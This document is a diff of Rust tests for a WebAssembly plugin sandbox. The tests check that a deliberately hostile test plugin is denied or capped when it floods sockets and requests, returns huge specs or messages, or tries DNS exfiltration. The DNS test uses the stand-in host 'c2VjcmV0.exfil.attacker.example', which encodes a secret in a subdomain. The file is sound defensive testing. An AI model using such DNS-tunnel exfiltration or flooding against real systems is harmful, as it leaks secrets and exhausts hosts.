@@ -35,15 +35,13 @@ fn rows(n: i64) -> Batch {
 /// Run the hostile plugin's attack in `write`.
 async fn attack(
     runtime: &Runtime,
-    attack: &str,
-    url: &str,
+    config: serde_json::Value,
     sandbox: Sandbox,
 ) -> Result<Vec<RowResult>, PluginFailure> {
     let bytes = std::fs::read(common::HOSTILE_PATH).unwrap();
     let plugin = Plugin::from_bytes(runtime, "hostile", &bytes).unwrap();
     let mut instance = plugin.instantiate(&sandbox).await?;
-    let config = serde_json::json!({ "attack": attack, "url": url }).to_string();
-    let writer = instance.open_writer(&config, &target()).await?;
+    let writer = instance.open_writer(&config.to_string(), &target()).await?;
     instance.write(&writer, &rows(3)).await
 }
 
@@ -73,9 +71,20 @@ async fn side_by_side(
     url: &str,
     sandbox: Sandbox,
 ) -> Result<Vec<RowResult>, PluginFailure> {
+    let config = serde_json::json!({ "attack": name, "url": url });
+    side_by_side_with(test, config, sandbox).await
+}
+
+/// [`side_by_side`] with the attack's whole config.
+async fn side_by_side_with(
+    test: &TestRuntime,
+    config: serde_json::Value,
+    sandbox: Sandbox,
+) -> Result<Vec<RowResult>, PluginFailure> {
+    let name = config["attack"].as_str().unwrap_or_default().to_string();
     let receiver = receiver().await;
     let (outcome, ()) = tokio::join!(
-        attack(&test.runtime, name, url, sandbox),
+        attack(&test.runtime, config, sandbox),
         well_behaved(&test.runtime, &receiver)
     );
     let delivered: usize = receiver
@@ -864,4 +873,186 @@ syncs:
             assert!(!leaked, "{} holds the secret", path.display());
         }
     }
+}
+
+fn expect_denial(failure: &PluginFailure, capability: &str) -> String {
+    let FailureKind::Denied(denial) = &failure.kind else {
+        panic!("expected a denial of {capability}: {failure}")
+    };
+    assert_eq!(denial.capability, capability, "{failure}");
+    denial.detail.clone()
+}
+
+/// Limits with `customise` applied to the defaults.
+fn limits(customise: impl FnOnce(&mut Limits)) -> Limits {
+    let mut limits = Limits::default();
+    customise(&mut limits);
+    limits
+}
+
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn without_a_tcp_grant_not_one_socket_is_created() {
+    let test = runtime();
+    // An HTTPS grant is for `wasi:http`, which the host performs: it does
+    // not let the plugin create raw sockets either.
+    for grants in [&[][..], &["https://api.example.com"][..]] {
+        let started = Instant::now();
+        let failure =
+            expect_failure(side_by_side(&test, "socket-flood", "", sandbox(grants)).await);
+        let detail = expect_denial(&failure, "network (tcp)");
+        assert!(
+            detail.contains("no grant that reaches raw TCP")
+                && detail.contains("no socket was created"),
+            "{failure}"
+        );
+        // The first of 20,000 attempts failed: no host descriptor was taken.
+        assert!(started.elapsed() < Duration::from_secs(30));
+    }
+}
+
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn open_sockets_per_instance_are_capped() {
+    let test = runtime();
+    let mut capped = sandbox(&["tcp://127.0.0.1:5432"]);
+    capped.limits = Some(limits(|l| l.sockets = 8));
+    let fds_before = open_fds();
+    let failure = expect_failure(side_by_side(&test, "socket-flood", "", capped).await);
+    let detail = expect_denial(&failure, "network (tcp)");
+    assert!(
+        detail.contains("already holds 8 open sockets, the limit of `limits.sockets` (8)"),
+        "{failure}"
+    );
+    // The eight sockets went with the call.
+    assert!(
+        open_fds() <= fds_before + 8,
+        "{} > {fds_before} + 8",
+        open_fds()
+    );
+}
+
+/// Descriptors the test process holds.
+fn open_fds() -> usize {
+    std::fs::read_dir("/proc/self/fd").map_or(0, |d| d.count())
+}
+
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn requests_in_flight_per_instance_are_capped() {
+    // A server that counts the connections it accepts and never answers.
+    let listener = tokio::net::TcpListener::bind("127.0.0.1:0").await.unwrap();
+    let port = listener.local_addr().unwrap().port();
+    let accepted = std::sync::Arc::new(std::sync::atomic::AtomicUsize::new(0));
+    let counter = accepted.clone();
+    tokio::spawn(async move {
+        let mut held = Vec::new();
+        while let Ok((socket, _)) = listener.accept().await {
+            counter.fetch_add(1, std::sync::atomic::Ordering::SeqCst);
+            held.push(socket);
+        }
+    });
+    let url = format!("http://127.0.0.1:{port}");
+    let test = runtime();
+    let mut capped = sandbox(&[&url]);
+    capped.limits = Some(limits(|l| l.requests_in_flight = 8));
+    let started = Instant::now();
+    let failure = expect_failure(side_by_side(&test, "request-flood", &url, capped).await);
+    let detail = expect_denial(&failure, "requests in flight");
+    assert!(
+        detail.contains("8 requests already in flight, the limit of `limits.requests_in_flight`"),
+        "{failure}"
+    );
+    assert!(started.elapsed() < Duration::from_secs(60));
+    let reached = accepted.load(std::sync::atomic::Ordering::SeqCst);
+    assert!(
+        reached <= 8,
+        "{reached} of 30,000 requests reached the server"
+    );
+}
+
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn a_100_mb_schema_in_spec_is_refused_before_parsing() {
+    let test = runtime();
+    let dir = tempfile::tempdir().unwrap();
+    std::fs::write(dir.path().join("huge-spec"), "").unwrap();
+    let mut huge = sandbox(&[&format!("dir:{}:/hostile", dir.path().display())]);
+    // Room for the guest to build it: the host's limit is what is tested.
+    huge.limits = Some(limits(|l| l.memory_bytes = 1 << 30));
+    let bytes = std::fs::read(common::HOSTILE_PATH).unwrap();
+    let plugin = Plugin::from_bytes(&test.runtime, "hostile", &bytes).unwrap();
+    let receiver = receiver().await;
+    let inspect = async {
+        let mut instance = plugin.instantiate(&huge).await.unwrap();
+        instance.spec().await.unwrap_err()
+    };
+    let (failure, ()) = tokio::join!(inspect, well_behaved(&test.runtime, &receiver));
+    assert_eq!(
+        (failure.plugin.as_str(), failure.call.as_str()),
+        ("hostile", "spec")
+    );
+    let FailureKind::TooLarge { bytes, limit, .. } = failure.kind else {
+        panic!("{failure}")
+    };
+    assert!(bytes >= 100 << 20, "{bytes}");
+    assert_eq!(limit, Limits::default().spec_bytes);
+    assert!(
+        failure.to_string().contains("(`limits.spec_bytes`)"),
+        "{failure}"
+    );
+    // The same plugin without the trigger has a small, usable spec.
+    let mut fine = plugin.instantiate(&sandbox(&[])).await.unwrap();
+    assert_eq!(fine.spec().await.unwrap().name, "hostile");
+}
+
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn rejection_and_error_messages_are_capped_before_the_host_keeps_them() {
+    let test = runtime();
+    let results = side_by_side(&test, "long-rejections", "", sandbox(&[]))
+        .await
+        .unwrap();
+    assert_eq!(results.len(), 3);
+    for result in &results {
+        let RowResult::Rejected(message) = result else {
+            panic!("{result:?}")
+        };
+        assert!(message.len() < 4096 + 128, "{} bytes kept", message.len());
+        assert!(message.starts_with("rrrr"), "{message}");
+        assert!(
+            message.ends_with(&format!(
+                "[truncated: {} more bytes over the limit of 4096 (limits.message_bytes)]",
+                (12 << 20) - 4096
+            )),
+            "{message}"
+        );
+    }
+    let failure = expect_failure(side_by_side(&test, "long-error", "", sandbox(&[])).await);
+    let message = failure.to_string();
+    assert!(message.len() < 4096 + 256, "{} bytes", message.len());
+    assert!(message.contains("(limits.message_bytes)"), "{message}");
+}
+
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn a_name_no_grant_covers_is_never_resolved() {
+    let test = runtime();
+    // Granted one HTTPS host; tries to send data out through the resolver.
+    let config = serde_json::json!({
+        "attack": "resolve",
+        "path": "c2VjcmV0.exfil.attacker.example",
+    });
+    let failure = expect_failure(
+        side_by_side_with(&test, config, sandbox(&["https://api.example.com"])).await,
+    );
+    let detail = expect_denial(&failure, "network (dns)");
+    assert!(
+        detail.contains("looking up `c2VjcmV0.exfil.attacker.example`: no grant covers that name"),
+        "{failure}"
+    );
+    // A name the grant covers resolves.
+    let config = serde_json::json!({ "attack": "resolve", "path": "localhost" });
+    let results = side_by_side_with(&test, config, sandbox(&["tcp://localhost:5432"]))
+        .await
+        .unwrap();
+    let RowResult::Rejected(found) = &results[0] else {
+        panic!("{results:?}")
+    };
+    assert!(found.starts_with("localhost resolved to ["), "{found}");
+    assert!(found.contains("Ipv4"), "{found}");
 }
